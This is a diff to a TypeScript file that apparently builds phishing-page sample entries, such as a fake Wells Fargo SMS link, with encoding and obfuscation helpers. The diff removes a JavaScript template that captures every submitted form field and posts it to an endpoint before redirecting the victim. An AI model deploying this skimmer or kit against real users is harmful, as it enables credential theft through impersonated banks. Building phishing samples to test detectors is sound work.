@@ -1,18 +1,6 @@
 import type { Entry } from '../entry.js';
 import { doc, analytics, beacon, logo, b64, xorB64, hexEsc, html, js, jsonRoute, redirectRoute, footer } from '../parts/zm-kit.js';
 
-// Credential-harvesting kits, various brands and languages.
-
-const exfilJs = (endpoint: string, next: string) => `
-document.addEventListener('DOMContentLoaded',function(){
-  var f=document.querySelector('form');if(!f)return;
-  f.addEventListener('submit',function(ev){ev.preventDefault();
-    var fd=new FormData(f),o={};fd.forEach(function(v,k){o[k]=v});
-    o.ua=navigator.userAgent;o.ts=new Date().toISOString();
-    fetch('${endpoint}',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(o)}).finally(function(){location.href='${next}'});
-  });
-});`;
-
 export const entries: Entry[] = [
   {
   id: 'zm-phish-wellsfargo-sms-link',
